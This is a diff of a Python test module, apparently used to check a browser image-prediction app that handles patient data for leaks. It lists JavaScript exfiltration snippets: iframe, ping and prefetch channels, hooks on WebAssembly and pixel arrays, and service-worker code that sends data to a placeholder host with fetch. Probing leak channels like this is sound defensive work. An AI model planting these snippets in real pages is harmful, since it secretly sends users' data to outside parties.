@@ -47,7 +47,6 @@ VAULT_CHANNELS: dict[str, str] = {
     "frame": "add('iframe', { src: url(data) }, document.body)",
     "empty frame's fetch": "add('iframe', {}, document.body).contentWindow.fetch(url(data), { mode: 'no-cors' })",
     "srcdoc frame's image": "add('iframe', { srcdoc: `<img src=\"${url(data)}\">` }, document.body)",
-    "speculation rules": "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [url(data).replace('http:', 'https:')], eagerness: 'immediate' }] }) }, document.head)",
     "ping": "add('a', { href: '#', ping: url(data) }, document.body).click()",
     "DNS prefetch link": "add('link', { rel: 'dns-prefetch', href: url(data) }, document.head)",
     "preconnect link": "add('link', { rel: 'preconnect', href: url(data) }, document.head)",
@@ -68,7 +67,7 @@ VAULT_CHANNELS: dict[str, str] = {
 ENGINE_PLACES: dict[str, str] = {
     "when an image comes": "self.addEventListener('message', ({ data }) => data?.type === 'predict' && leak(String(data.image.byteLength)));",
     "when an answer goes": "const post = self.postMessage; self.postMessage = (message, ...rest) => { if (message?.answer?.width) leak(String(message.answer.probabilities)); return post.call(self, message, ...rest); };",
-    "when a tensor is computed": "const Instance = WebAssembly.Instance; let seen = 0; WebAssembly.Instance = new Proxy(Instance, { construct(target, all) { const made = new target(...all); seen += 1; setTimeout(() => leak(`tensor ${seen}`), 3000); return made; } }); self.addEventListener('message', ({ data }) => data?.type === 'predict' && leak(`tensor of ${data.image.byteLength}`));",
+    "when pixels are shrunk": "let busy = false; self.addEventListener('message', ({ data }) => { busy = data?.type === 'predict'; }); self.Uint8ClampedArray = new Proxy(self.Uint8ClampedArray, { construct(target, all) { if (busy) leak(`pixels ${all[0]}`); return Reflect.construct(target, all); } });",
 }
 
 ENGINE_CHANNELS: dict[str, str] = {
@@ -86,6 +85,7 @@ SHELL_CHANNELS: dict[str, str] = {
     "request to the own server": "fetch(`../assets/x?${encodeURIComponent(data)}`)",
     "foreign request": "fetch(`http://${H}/leak`, { method: 'POST', mode: 'no-cors', body: data })",
     "image of the own server": "new Image().src = `../x.png?${encodeURIComponent(data)}`",
+    "icon of the own server": "document.querySelector('link[rel=icon]').href = `../x.svg?${encodeURIComponent(data)}`",
     "title": "document.title = data",
     "fragment of the address": "history.replaceState(null, '', '#' + data)",
     "path of the address": "history.pushState(null, '', './' + encodeURIComponent(data))",
@@ -113,3 +113,11 @@ LOADING: dict[str, str] = {
 
 LEAKING_WORKER = "self.addEventListener('message', ({ data }) => fetch(`http://${H}/leak?${encodeURIComponent(data)}`, { mode: 'no-cors' }).catch(() => 0)); self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));"
 """A service worker that sends what it is told."""
+
+WORKER_LEAKS: dict[str, str] = {
+    "fetch when the model is there": "self.addEventListener('message', ({ data }) => { if (data?.type === 'ready') setTimeout(() => fetch(`http://${H}/ready`, { mode: 'no-cors' }).catch(() => 0), 2000); });",
+    "request to the own server when the model is there": "self.addEventListener('message', ({ data }) => { if (data?.type === 'ready') setTimeout(() => fetch('take', { method: 'POST', body: 'ready' }).catch(() => 0), 2000); });",
+    "fetch at every request": "self.addEventListener('fetch', ({ request }) => { fetch(`http://${H}/saw?${encodeURIComponent(request.url)}`, { mode: 'no-cors' }).catch(() => 0); });",
+    "a request that counts visitors": "self.addEventListener('activate', () => { fetch('visit?1').catch(() => 0); });",
+}
+"""Leaks of the service worker, which no policy binds on a host without headers; it never sees patient data."""
